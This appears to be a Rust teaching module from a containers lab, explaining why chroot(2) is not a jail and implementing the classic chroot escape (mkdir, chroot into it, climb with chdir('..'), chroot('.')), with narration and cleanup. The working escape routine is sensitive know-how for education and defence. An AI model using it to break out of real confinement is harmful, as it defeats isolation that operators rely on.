//! Lesson 01: `chroot(2)`, a different `/`, and why it is not a jail.
//!
//! `chroot(dir)` changes one attribute of the calling process: the directory
//! that absolute paths (and `..` at the top) resolve against. It changes
//! nothing else: not the mount table, not the current directory, not what
//! the process may do. The chroot(2) man page says so plainly: "This call
//! does not change the current working directory" and "it is not intended
//! to be used for any kind of security purpose". A root process can leave
//! with a second chroot, which [`escape`] demonstrates.

use crate::narrate;
use nix::errno::Errno;
use nix::sys::stat::{stat, Mode};
use std::path::{Path, PathBuf};

/// What can go wrong while entering or escaping a chroot.
#[derive(Debug, thiserror::Error)]
pub enum ChrootError {
    /// `chdir(2)` failed.
    #[error("failed to change directory to {}", path.display())]
    Chdir {
        /// The target directory.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
    /// `chroot(2)` failed.
    #[error("failed to change the root directory to {}", path.display())]
    Chroot {
        /// The new root.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
    /// `stat(2)` failed.
    #[error("failed to stat {}", path.display())]
    Stat {
        /// What was looked at.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
    /// `mkdir(2)` or `rmdir(2)` of the escape directory failed.
    #[error("failed to {step} the escape directory {}", path.display())]
    EscapeDir {
        /// "create" or "remove".
        step: &'static str,
        /// The directory.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
}

/// Changes the current directory. See chdir(2).
pub fn chdir(path: &Path) -> Result<(), ChrootError> {
    narrate::syscall(format!("chdir({:?})", path.display().to_string()));
    nix::unistd::chdir(path).map_err(|source| ChrootError::Chdir {
        path: path.into(),
        source,
    })
}

/// Changes the root directory. See chroot(2).
pub fn chroot(path: &Path) -> Result<(), ChrootError> {
    narrate::syscall(format!("chroot({:?})", path.display().to_string()));
    nix::unistd::chroot(path).map_err(|source| ChrootError::Chroot {
        path: path.into(),
        source,
    })
}

/// Enters `rootfs` the way it should be done: chroot, then `chdir("/")`.
///
/// The order matters. `chroot` leaves the current directory where it was,
/// possibly outside the new root; forgetting the `chdir` afterwards is the
/// hole the classic escape goes through.
// ANCHOR: enter
pub fn enter(rootfs: &Path) -> Result<(), ChrootError> {
    chroot(rootfs)?;
    chdir(Path::new("/"))?;
    narrate::explain("absolute paths now resolve inside the rootfs; nothing else changed");
    Ok(())
}
// ANCHOR_END: enter

/// Identifies a directory by device and inode, to tell two `/`s apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DirId {
    dev: u64,
    ino: u64,
}

/// The identity of `path` as seen by the calling process.
pub fn dir_id(path: &Path) -> Result<DirId, ChrootError> {
    let st = stat(path).map_err(|source| ChrootError::Stat {
        path: path.into(),
        source,
    })?;
    Ok(DirId {
        dev: st.st_dev,
        ino: st.st_ino,
    })
}

/// How far the escape got.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EscapeOutcome {
    /// The process's `/` is now the host's `/`.
    ReachedHostRoot,
    /// The climb stopped at a `/` that is not the host's.
    StayedInside,
}

/// The classic chroot escape, for a process that is root inside a chroot.
///
/// 1. `mkdir("/.nslab-escape")` and `chroot` into it: the root moves one
///    level down, but the current directory stays where it was, which is now
///    *above* the root.
/// 2. `chdir("..")` again and again: the kernel stops `..` only at the
///    process's root, and the current directory is no longer beneath it, so
///    nothing stops the climb until the top of the mount namespace.
/// 3. `chroot(".")`: make wherever we ended up the root.
///
/// `host_root` is the identity of the host's `/`, taken before the first
/// chroot, so the outcome can be told honestly. `escape_dir_on_host` is the
/// escape directory's path as seen from the host, used to remove it after a
/// successful escape, so the demo leaves nothing behind.
// ANCHOR: escape
pub fn escape(host_root: DirId, escape_dir_on_host: &Path) -> Result<EscapeOutcome, ChrootError> {
    let inner = Path::new("/.nslab-escape");
    narrate::syscall(format!("mkdir({:?}, 0700)", inner.display().to_string()));
    nix::unistd::mkdir(inner, Mode::S_IRWXU)
        .or_else(|e| if e == Errno::EEXIST { Ok(()) } else { Err(e) })
        .map_err(|source| ChrootError::EscapeDir {
            step: "create",
            path: inner.into(),
            source,
        })?;
    chroot(inner)?;
    narrate::explain("the root moved down into /.nslab-escape, but our current directory did not:\nit is now outside our root, where `..` is never stopped");

    // Climb until "." and ".." are the same directory: the top of the tree.
    let mut climbs = 0;
    while dir_id(Path::new("."))? != dir_id(Path::new(".."))? && climbs < 256 {
        chdir(Path::new(".."))?;
        climbs += 1;
    }
    chroot(Path::new("."))?;

    let outcome = if dir_id(Path::new("/"))? == host_root {
        narrate::warning(format!(
            "escaped: after {climbs} × chdir(\"..\") our / is the host's /"
        ));
        // Now outside, remove the escape directory by its host path.
        narrate::syscall(format!(
            "rmdir({:?})",
            escape_dir_on_host.display().to_string()
        ));
        nix::unistd::unlinkat(
            None,
            escape_dir_on_host,
            nix::unistd::UnlinkatFlags::RemoveDir,
        )
        .map_err(|source| ChrootError::EscapeDir {
            step: "remove",
            path: escape_dir_on_host.into(),
            source,
        })?;
        EscapeOutcome::ReachedHostRoot
    } else {
        narrate::success(format!("no escape: after {climbs} × chdir(\"..\") the top of the tree is still the container's /"));
        narrate::syscall(format!("rmdir({:?})", inner.display().to_string()));
        nix::unistd::unlinkat(None, inner, nix::unistd::UnlinkatFlags::RemoveDir).map_err(
            |source| ChrootError::EscapeDir {
                step: "remove",
                path: inner.into(),
                source,
            },
        )?;
        EscapeOutcome::StayedInside
    };
    chdir(Path::new("/"))?;
    Ok(outcome)
}
// ANCHOR_END: escape
